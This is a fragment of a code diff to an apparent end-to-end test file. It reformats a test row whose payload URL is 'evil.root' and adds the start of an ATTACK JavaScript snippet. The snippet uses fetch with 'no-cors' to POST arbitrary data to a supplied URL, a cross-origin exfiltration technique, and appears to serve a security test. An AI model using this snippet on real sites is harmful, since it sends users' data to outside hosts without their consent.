@@ -9,9 +9,13 @@ import pytest
 from tests.e2e.service import JobClient
 
 ROW = {
-    "global_tag": "tiny", "payload_type": "Pixel_Alignment", "payload_url": "evil.root", "checksum": "0", "since": [1, 0],
+    "global_tag": "tiny",
+    "payload_type": "Pixel_Alignment",
+    "payload_url": "evil.root",
+    "checksum": "0",
+    "since": [1, 0],
     "until": "open",
-}  # fmt: skip
+}
 # A body that has no type needs no permission to be sent elsewhere.
 ATTACK = """async ([url, body]) => {
     await fetch(url, {method: "POST", mode: "no-cors", body: body === null ? undefined : new Blob([body])});
